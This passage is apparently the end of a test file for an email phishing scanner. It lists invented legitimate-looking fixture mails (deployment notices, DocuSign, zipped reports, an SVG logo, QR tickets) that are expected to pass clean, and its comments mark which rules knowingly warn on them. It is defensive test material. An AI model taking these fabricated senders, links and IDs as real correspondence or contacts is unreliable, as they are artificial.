      html(
        { From: 'UNICEF Viet Nam <hanoi.registry@unicef.org>', Subject: 'Survey: child online protection training needs' },
        '<p>Dear colleagues,</p><p>We would be grateful if you could fill in our 10-minute survey on training needs for child online protection. ' +
          'No personal data is collected.</p><p><a href="https://docs.google.com/forms/d/e/1FAIpQLSe7-training-needs/viewform">Open the survey</a></p><p>UNICEF Viet Nam</p>',
      ),
  },
  {
    name: 'genuine Cloudflare Pages deployment notification',
    want: 'clean',
    // gap: any link to free hosting from outside is warned (abused-hosting-link), by design; the list cannot tell a real project site from a fake page
    today: 'warned',
    raw: () =>
      html(
        { From: 'Cloudflare <noreply@notify.cloudflare.com>', Subject: 'Deployment succeeded: lachan-docs (main)' },
        '<p>Your Cloudflare Pages project <b>lachan-docs</b> deployed successfully from branch main (commit 3f9c1ab).</p>' +
          '<p>Preview: <a href="https://3f9c1ab.lachan-docs.pages.dev">https://3f9c1ab.lachan-docs.pages.dev</a></p>' +
          '<p><a href="https://dash.cloudflare.com/?to=/:account/pages/view/lachan-docs">View deployment</a></p>',
      ),
  },
  {
    name: 'genuine DocuSign envelope from docusign.net',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Pham Thi Lan via DocuSign <dse_NA4@docusign.net>', Subject: 'Please DocuSign: MoU_UNDP_2026.pdf' },
        '<p>Pham Thi Lan sent you a document to review and sign.</p>' +
          button('https://na4.docusign.net/Signing/EmailStart.aspx?a=5c0f9e0e-1111-2222-3333-444455556666&etti=24&acct=7d1e&er=8a9b', 'REVIEW DOCUMENT') +
          '<p>Do Not Share This Email. This email contains a secure link to DocuSign.</p>',
      ),
  },
  {
    name: 'partner sends a zip of PDFs',
    want: 'clean',
    raw: async () =>
      attachmentMail(
        'Bao_cao_quy_IV.zip',
        'application/zip',
        await makeZip({ 'Bao_cao_tong_hop.pdf': makePdf('Bao cao tong hop quy IV'), 'Phu_luc_1.pdf': makePdf('Phu luc 1'), 'Phu_luc_2.pdf': makePdf('Phu luc 2') }),
        { from: 'So Ke hoach <vanthu@skhdt.lachan.test>', subject: 'Bao cao quy IV va phu luc', text: 'Gửi anh chị báo cáo quý IV và các phụ lục (3 tệp PDF trong tệp nén).' },
      ),
  },
  {
    name: 'a .docx with a template on the author’s own disk',
    want: 'clean',
    raw: async () =>
      attachmentMail(
        'Ke_hoach_2026.docx',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
        await makeHyperlinkDocx('https://www.mpi.gov.vn/ke-hoach-2026'),
        { from: 'Tran Van Binh <binh.tv@sotc.lachan.test>', subject: 'Du thao ke hoach 2026', text: 'Gửi chị dự thảo kế hoạch 2026 để góp ý.' },
      ),
  },
  {
    name: 'newsletter whose links go through google.com/url',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Open Government Partnership <newsletter@opengovpartnership.org>', Subject: 'OGP Digest — February 2026' },
        '<p>This month: new open-contracting commitments in the region.</p>' +
          '<p><a href="https://www.google.com/url?q=https://www.opengovpartnership.org/stories/open-contracting-2026/&sa=D&source=editors">Read the story</a></p>' +
          '<p>You receive this because you subscribed. <a href="https://www.opengovpartnership.org/unsubscribe">Unsubscribe</a></p>',
      ),
  },
  {
    name: 'colleague forwards a Bing search link to a UN page',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Le Thi Hoa <hoa.lt@sotp.lachan.test>', Subject: 'Tai lieu SDG 16' },
        `<p>Chị xem tài liệu này nhé:</p><p><a href="https://www.bing.com/ck/a?!&&p=9a8b7c&ptn=3&ver=2&u=a1${b64url('https://www.un.org/sustainabledevelopment/peace-justice/')}&ntb=1">SDG 16 — un.org</a></p>`,
      ),
  },
  {
    name: 'mailing list sends a tar.gz of source code',
    want: 'clean',
    raw: () =>
      attachmentMail(
        'mailparse-fix-0.4.2.tar.gz',
        'application/gzip',
        makeGzip(
          makeTar({
            'mailparse-0.4.2/README.md': '# mailparse\n\nSmall MIME helper.\n',
            'mailparse-0.4.2/src/header.c': '#include <string.h>\nint header_len(const char *s) { return (int)strlen(s); }\n',
            'mailparse-0.4.2/Makefile': 'all:\n\tcc -O2 -c src/header.c\n',
          }),
        ),
        { from: 'Nguyen Duc <duc@lists.opensource-vn.example>', subject: '[dev] patch for header folding, tarball attached', text: 'Hi list, the tarball with the header-folding fix is attached. Build with make.' },
      ),
  },
  {
    name: 'reply quoting a Safe Links-wrapped link to a government site',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Hoang Minh <minh.hoang@sotttt.lachan.test>', Subject: 'RE: Van ban huong dan chuyen doi so' },
        '<p>Gửi lại anh đường dẫn văn bản hướng dẫn:</p>' +
          '<p><a href="https://apc01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fmic.gov.vn%2Fvan-ban%2Fhuong-dan-chuyen-doi-so&data=05%7C02%7C&reserved=0">mic.gov.vn — hướng dẫn chuyển đổi số</a></p>',
      ),
  },
  {
    name: 'genuine Vercel deployment notice',
    want: 'clean',
    // gap: any link to free hosting from outside is warned (abused-hosting-link), by design; the list cannot tell a real project site from a fake page
    today: 'warned',
    raw: () =>
      text(
        { From: 'Vercel <notifications@vercel.com>', Subject: 'Deployment ready: lachan-portal' },
        'Your deployment of lachan-portal is ready.\n\nPreview: https://lachan-portal-git-main-lachan.vercel.app\nInspect: https://vercel.com/lachan/lachan-portal\n\n— Vercel',
      ),
  },
  {
    name: 'designer sends an SVG logo without script',
    want: 'clean',
    // gap: every SVG attachment from outside is warned (svg-attachment), by design: an SVG can carry script
    today: 'warned',
    raw: () =>
      attachmentMail(
        'logo-lachan.svg',
        'image/svg+xml',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="120"><circle cx="60" cy="60" r="50" fill="#c00"/><text x="30" y="66" fill="#fff">LC</text></svg>'),
        { from: 'Studio Nam <hello@studionam.example>', subject: 'Logo ban cuoi', text: 'Gửi anh chị logo bản cuối (SVG).' },
      ),
  },
  {
    name: 'conference ticket: a PDF with a QR code to the organiser’s own site',
    want: 'clean',
    // gap: every QR-code link is warned (qr-code-link), by design: the reader cannot see where it leads
    today: 'warned',
    raw: () =>
      attachmentMail('Ticket_ASEAN_Digital_2026.pdf', 'application/pdf', qrPdf('https://www.asean.org/events/digital-ministers-2026/checkin?t=8812', 'Your ticket'), {
        from: 'ASEAN Secretariat <events@asean.org>',
        subject: 'Your registration: ASEAN Digital Ministers Meeting 2026',
        text: 'Dear delegate, your registration is confirmed. Please show the QR code in the attached ticket at the entrance.',
      }),
  },
  {
    name: 'HTML newsletter with a calendar grid of coloured cells',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Van phong So <vanphong@so.lachan.test>', Subject: 'Lich truc thang 2' },
        '<p>Lịch trực tháng 2 (ô xám: ngày nghỉ):</p><table cellpadding="0" cellspacing="0">' +
          Array.from({ length: 5 }, (_, w) => `<tr>${Array.from({ length: 7 }, (_, d) => `<td style="width:24px;height:24px;background:${d > 4 ? '#999' : '#fff'}">${w * 7 + d + 1 <= 28 ? w * 7 + d + 1 : ''}</td>`).join('')}</tr>`).join('') +
          '</table>',
      ),
  },
  {
    name: 'genuine Notion page invitation',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Notion <notify@mail.notion.so>', Subject: 'Tran Thi Mai invited you to “Kế hoạch truyền thông 2026”' },
        '<p>Tran Thi Mai invited you to edit a page.</p>' + button('https://www.notion.so/lachan/Ke-hoach-truyen-thong-2026-4b1c9e0d2f3a', 'Open in Notion'),
      ),
  },
  {
    name: 'colleague shares a Canva design',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Vu Hong Nhung <nhung.vh@sovhttdl.lachan.test>', Subject: 'Poster ngay hoi chuyen doi so' },
        '<p>Chị gửi em bản poster, em xem và góp ý giúp chị:</p><p><a href="https://www.canva.com/design/DAGd9xYzAbc/view">Poster ngày hội chuyển đổi số</a></p>',
      ),
  },
  {
    name: 'own IT: training registration on Microsoft Forms',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Phong CNTT <cntt@lachan.test>', Subject: 'Dang ky lop tap huan an toan thong tin' },
        '<p>Đề nghị các đồng chí đăng ký lớp tập huấn an toàn thông tin (họ tên, đơn vị, ngày tham dự) tại biểu mẫu:</p>' +
          '<p><a href="https://forms.office.com/r/Lc7tHuan2026">Đăng ký tập huấn</a></p>',
      ),
  },
  {
    name: 'partner’s event registration on Jotform',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Friedrich Naumann Foundation Vietnam <vietnam@freiheit.org>', Subject: 'Invitation: Workshop on digital public services, 12 March 2026' },
        '<p>We are pleased to invite you to our workshop in Hanoi. Please register (name, organisation, position) by 5 March:</p>' +
          '<p><a href="https://form.jotform.com/240123456789012">Register</a></p>',
      ),
  },
  {
    name: 'university project site on netlify.app',
    want: 'clean',
    // gap: any link to free hosting from outside is warned (abused-hosting-link), by design; the list cannot tell a real project site from a fake page
    today: 'warned',
    raw: () =>
      text(
        { From: 'Dr. Pham Quoc Viet <viet.pq@hust.edu.vn>', Subject: 'Ket qua nghien cuu ban do ngap lut' },
        'Kính gửi Sở,\n\nNhóm nghiên cứu đã công bố bản đồ ngập lụt tương tác của tỉnh tại https://flood-map-lachan.netlify.app (mã nguồn mở). ' +
          'Rất mong nhận được góp ý của Sở.\n\nTrân trọng,\nPhạm Quốc Việt',
      ),
  },
  {
    name: 'partner sends a zip of an .xlsx and a .docx',
    want: 'clean',
    raw: async () =>
      attachmentMail(
        'Ho_so_du_an.zip',
        'application/zip',
        await makeZip({ 'Thuyet_minh.docx': await makeHyperlinkDocx(), 'Du_toan.pdf': makePdf('Du toan kinh phi') }),
        { from: 'Ban QLDA <banqlda@bqlda.lachan.test>', subject: 'Ho so du an', text: 'Gửi hồ sơ dự án (thuyết minh và dự toán).' },
      ),
  },
  {
    name: 'German newsletter with soft hyphens in long words',
    want: 'clean',
    raw: () =>
      html(
        { From: 'GIZ Vietnam <newsletter@giz.de>', Subject: 'Newsletter: Digitalisierung der Verwaltung' },
        '<p>Die Verwaltungs&shy;digitalisierungs&shy;strategie der Provinz wurde im Januar verabschiedet. ' +
          'Mehr zur Zusammen&shy;arbeit: <a href="https://www.giz.de/de/weltweit/376.html">giz.de</a></p>',
      ),
  },
  {
    name: 'Arabic conference letter with right-to-left text in the subject',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Arab Administrative Development Organization <info@arado.org>', Subject: '\u202bدعوة لحضور المؤتمر الدولي للإدارة الرقمية\u202c' },
        'السادة المحترمون،\n\nيسرنا دعوتكم لحضور المؤتمر الدولي للإدارة الرقمية في القاهرة، 20-21 أبريل 2026. لا توجد رسوم تسجيل.\n' +
          'التفاصيل: https://www.arado.org/conference2026\n\nمع التحية',
      ),
  },
  {
    name: 'PDF from a ministry linking to a .zip of forms on its own site',
    want: 'clean',
    raw: () =>
      attachmentMail('Huong_dan_bieu_mau.pdf', 'application/pdf', makeLinkPdf('https://www.mof.gov.vn/webcenter/bieu-mau/bo-bieu-mau-2026.zip'), {
        from: 'Bo Tai chinh <vanthu@mof.gov.vn>',
        subject: 'Huong dan su dung bo bieu mau 2026',
        text: 'Bộ Tài chính gửi hướng dẫn sử dụng bộ biểu mẫu 2026. Bộ biểu mẫu tải về tại đường dẫn trong tài liệu.',
      }),
  },
];

runBlindSet({
  clamdUrl: inject('clamdUrl'),
  tallyName: 'blind-families-3',
  titles: ['blind set 3: 2025–2026 delivery techniques', 'blind set 3: the legitimate mail they resemble'],
  todayLabel: 'gap',
  phish,
  lookalikes,
});
